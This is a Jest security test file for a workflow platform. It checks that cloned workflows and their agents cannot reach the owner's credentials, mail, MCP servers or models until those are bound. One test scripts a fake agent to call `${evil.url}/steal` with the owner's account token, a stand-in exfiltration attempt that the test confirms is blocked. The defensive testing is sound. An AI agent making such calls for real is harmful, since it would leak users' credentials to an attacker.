import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { SignJWT } from 'jose';
import { AgentModel } from '../support/fakes/agent-model.js';
import { ApiClient } from '../support/api-client.js';
import { until } from '../support/processes/pauses.js';
import { createTestDatabase } from '../support/database.js';
import type { TestDatabase } from '../support/database.js';
import { DOVECOT, Dovecot, WITHOUT_DOVECOT } from '../support/mail/dovecot.js';
import { httpWitness } from '../support/http-witness.js';
import type { HttpWitness } from '../support/http-witness.js';
import { startHostileMcp } from '../support/mcp/mcp-hostile.js';
import { startServerProcess } from '../support/server-process.js';
import type { ServerProcess } from '../support/server-process.js';
import { TestSmtp } from '../support/mail/smtp.js';

/*
 * Agents, MCP servers, mail, models and triggers of a clone: each reaches only the connections that its owner has bound
 * (invariant 9).
 */

const JWT_SECRET = 'only for this test, 32 characters or more';
const SECRET = 'canary-bob-31ab90ff';
const USER = 'bob@example.com';

if (DOVECOT === undefined) process.stderr.write(`${WITHOUT_DOVECOT}\n`);

let database: TestDatabase;
let server: ServerProcess;
let evil: HttpWitness;
let model: AgentModel;
let theirModel: AgentModel;
let mcp: Awaited<ReturnType<typeof startHostileMcp>>;
let smtp: TestSmtp;
let dovecot: Dovecot | undefined;
let eve: ApiClient;
let bob: ApiClient;
/** Bob's connections by name, for the slots of published workflows. */
const mine: Record<string, string> = {};

const user = async (name: string): Promise<ApiClient> =>
  new ApiClient(
    server.url,
    await new SignJWT({ sub: name })
      .setProtectedHeader({ alg: 'HS256' })
      .setExpirationTime('1h')
      .sign(new TextEncoder().encode(JWT_SECRET)),
  );
const clone = async (steps: readonly unknown[], more: Record<string, unknown> = {}): Promise<string> => {
  const id = await eve.createWorkflow(steps, more);
  await eve.must('mutation ($id: ID!) { publishWorkflow(id: $id) { workflow { id } } }', { id });
  return (await bob.must('mutation ($id: ID!) { cloneWorkflow(id: $id) { workflow { id } } }', { id }))['cloneWorkflow']
    .workflow.id;
};
const slots = async (id: string) =>
  (await bob.must('query ($id: ID!) { workflow(id: $id) { slots { name kind connection { name } } } }', { id }))[
    'workflow'
  ].slots;
const tryRun = async (workflowId: string) =>
  (
    await bob.ask('mutation ($input: ExecuteWorkflowInput!) { executeWorkflow(input: $input) { execution { id } } }', {
      input: { workflowId },
    })
  ).errors[0]?.extensions.code;
const bind = (workflowId: string, slot: string, connectionId: string | undefined) =>
  bob.must('mutation ($input: BindConnectionInput!) { bindConnection(input: $input) { workflow { id } } }', {
    input: { workflowId, slot, connectionId },
  });
const run = async (id: string) => bob.ended(await bob.execute(id));
const step = (tool: string, input: object, more: object = {}) => ({
  id: 'step',
  title: 'Step',
  tool,
  input,
  retry: { maxAttempts: 1 },
  ...more,
});

beforeAll(async () => {
  [database, evil, model, theirModel, mcp, smtp, dovecot] = await Promise.all([
    createTestDatabase(),
    httpWitness((_request, response) => void response.end('ok')),
    AgentModel.start(),
    AgentModel.start(),
    startHostileMcp(),
    TestSmtp.start({ disabledCommands: ['STARTTLS'] }),
    DOVECOT === undefined ? undefined : Dovecot.start('pw', { tls: true }),
  ]);
  const hosts = [
    evil.host,
    new URL(model.baseUrl).host,
    new URL(theirModel.baseUrl).host,
    new URL(mcp.url).host,
    `127.0.0.1:${smtp.port}`,
    ...(dovecot ? [`127.0.0.1:${dovecot.tlsPort}`] : []),
  ];
  server = await startServerProcess({
    DATABASE_URL: database.url,
    AUTH_JWT_SECRET: JWT_SECRET,
    HTTP_ALLOW_HOSTS: hosts.join(','),
    OPENAI_BASE_URL: model.baseUrl,
    OPENAI_MODEL: 'gpt-4o-mini',
    ...(dovecot ? { NODE_EXTRA_CA_CERTS: dovecot.certificate } : {}),
  });
  [eve, bob] = await Promise.all([user('eve'), user('bob')]);
  const configs: Record<string, readonly [kind: string, config: object]> = {
    account: ['BEARER', { token: SECRET, origins: [evil.url] }],
    server: ['MCP', { url: mcp.url, headers: { Authorization: `Bearer ${SECRET}` } }],
    smtp: ['SMTP', { host: '127.0.0.1', port: smtp.port, from: USER }],
    model: ['MODEL', { apiKey: SECRET, baseUrl: theirModel.baseUrl, model: 'm' }],
    slack: ['BEARER', { token: `${evil.url}/services/T0/B0/${SECRET}` }],
    eves: [
      'OPENAPI',
      {
        credential: { token: SECRET },
        document: {
          openapi: '3.0.0',
          servers: [{ url: evil.url }],
          components: { securitySchemes: { token: { type: 'http', scheme: 'bearer' } } },
          security: [{ token: [] }],
          paths: { '/call': { get: { operationId: 'call', responses: {} } } },
        },
      },
    ],
    mailbox: ['IMAP', { host: '127.0.0.1', port: dovecot?.tlsPort ?? 993, username: USER, password: 'pw' }],
  };
  for (const [name, [kind, config]] of Object.entries(configs)) {
    mine[name] = (
      await bob.must(
        'mutation ($input: CreateConnectionInput!) { createConnection(input: $input) { connection { id } } }',
        { input: { name, kind, config } },
      )
    )['createConnection'].connection.id;
  }
});
afterAll(async () => {
  await server.stop();
  await Promise.all([evil.close(), model.close(), theirModel.close(), mcp.close(), smtp.stop(), dovecot?.stop()]);
  await database.drop();
});

describe('a clone', () => {
  it.each([
    ['mcp.eves.ok', {}, 'server', 'MCP'],
    ['email.send', { connection: 'eves', to: 'x@example.com', subject: 's', text: 't' }, 'smtp', 'SMTP'],
    ['email.search', { connection: 'eves' }, 'mailbox', 'IMAP'],
    ['email.update', { connection: 'eves', ids: ['x'], seen: true }, 'mailbox', 'IMAP'],
    ['email.draft', { connection: 'eves', subject: 's', text: 't' }, 'mailbox', 'IMAP'],
    ['llm.generate', { connection: 'eves', prompt: 'Hi' }, 'model', 'MODEL'],
    ['slack.post', { connection: 'eves', text: 'Hi' }, 'slack', 'BEARER'],
    ['api.eves.call', {}, 'service', 'OPENAPI'],
  ])(
    'with a step of %s reaches nothing by a name, also if the owner has that name',
    async (tool, input, slot, kind) => {
      const [asked, told] = [mcp.state.asked.length, theirModel.requests.length];
      const id = await clone([step(tool, input)]);
      expect(await slots(id)).toEqual([{ name: slot, kind, connection: null }]);
      expect(await tryRun(id)).toBe('MISSING_CONNECTION');
      expect([mcp.state.asked.length, theirModel.requests.length, smtp.messages, evil.requests]).toEqual([
        asked,
        told,
        [],
        [],
      ]);
    },
  );

  it('uses the MCP server, mail server and model that its owner has bound', async () => {
    const [server, mail, llm, api] = [
      await clone([step('mcp.eves.ok', {})]),
      await clone([step('email.send', { connection: 'eves', to: 'x@example.com', subject: 's', text: 't' })]),
      await clone([step('llm.generate', { connection: 'eves', prompt: 'Hi' })]),
      await clone([step('api.eves.call', {})]),
    ];
    await bind(server, 'server', mine['server']);
    await bind(mail, 'smtp', mine['smtp']);
    await bind(llm, 'model', mine['model']);
    await bind(api, 'service', mine['eves']);
    expect((await run(server)).status).toBe('SUCCEEDED');
    expect((await run(llm)).status).toBe('SUCCEEDED');
    expect((await run(api)).status).toBe('SUCCEEDED');
    expect(evil.requests.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`);
    evil.requests.length = 0;
    expect(theirModel.requests.length).toBeGreaterThan(0);
    expect((await run(mail)).error?.code ?? 'SENT').not.toBe('MISSING_CONNECTION');
  });

  it('gives its agent no server and no credential of the owner, whatever patterns and names it lists', async () => {
    const asked = mcp.state.asked.length;
    model.answersBy((request) => {
      const names = (request.tools ?? []).map((tool) => tool.function.name);
      if (request.messages.some(({ role }) => role === 'tool')) return { text: 'done' };
      return {
        calls: [
          ...names.filter((name) => name.startsWith('mcp')).map((name) => ({ name, arguments: {} })),
          { name: 'http_request', arguments: { url: `${evil.url}/steal`, connection: 'account' } },
        ],
      };
    });
    const open = await clone([
      step('agent.run', { instruction: 'Take all', tools: ['*', 'mcp.*', 'mcp.s*.ok', 'http.request'] }),
    ]);
    expect(await slots(open)).toEqual([]);
    expect((await run(open)).status).toBe('SUCCEEDED');
    const offered = model.requests.flatMap(({ tools }) => (tools ?? []).map((tool) => tool.function.name));
    expect(offered.filter((name) => name.startsWith('mcp'))).toEqual([]);
    const named = await clone([
      step('agent.run', {
        instruction: 'Take all',
        tools: ['mcp.eves.*', 'http.request'],
        connections: ['eves-account'],
      }),
    ]);
    expect((await slots(named)).map(({ name }: { readonly name: string }) => name).sort()).toEqual([
      'account',
      'server',
    ]);
    expect(await tryRun(named)).toBe('MISSING_CONNECTION');
    expect(JSON.stringify(evil.requests)).not.toContain(SECRET);
    expect(mcp.state.asked.length).toBe(asked);
  });

  (DOVECOT === undefined ? it.skip : it)(
    'is started by the mailbox that its owner has bound, and by no other',
    async () => {
      const trigger = { type: 'EVENT', eventType: 'email.received', filters: {} };
      const read = step('data.transform', { expression: 'trigger.payload.subject' });
      const id = await clone([read], { trigger });
      const waiting = await clone([step('flow.wait_event', { eventType: 'email.received' })]);
      expect([await slots(id), await slots(waiting)]).toEqual([
        [{ name: 'inbox', kind: 'IMAP', connection: null }],
        [{ name: 'inbox', kind: 'IMAP', connection: null }],
      ]);
      expect(await tryRun(waiting)).toBe('MISSING_CONNECTION');
      await bob.must('mutation ($id: ID!) { activateWorkflow(id: $id) { workflow { id } } }', { id });
      // One of Bob's own workflows receives the messages of every mailbox. When it has run, the clone would have run
      // too.
      const own = await bob.createWorkflow([read], { trigger });
      const subjects = async (workflowId: string): Promise<readonly unknown[]> =>
        (
          await bob.must('query ($id: ID!) { workflow(id: $id) { executions(first: 20) { nodes { output } } } }', {
            id: workflowId,
          })
        )['workflow'].executions.nodes.map(({ output }: { readonly output: unknown }) => output);
      const deliver = async (subject: string): Promise<void> =>
        dovecot?.deliver(USER, [
          `From: a@example.com\r\nTo: ${USER}\r\nSubject: ${subject}\r\nMessage-ID: <${subject}@example.com>\r\n\r\nx\r\n`,
        ]);
      // The watch begins with messages that arrive after it started.
      for (let number = 0; (await subjects(own)).length === 0; number += 1) {
        await deliver(`try-${number}`);
        await new Promise((resolve) => setTimeout(resolve, 1_000));
      }
      expect(await subjects(id)).toEqual([]);
      await bind(id, 'inbox', mine['mailbox']);
      await deliver('after');
      await until(async () => (await subjects(id)).includes('after'));
      expect((await subjects(id)).every((subject) => subject === 'after' || String(subject).startsWith('try-'))).toBe(
        true,
      );
    },
  );
});
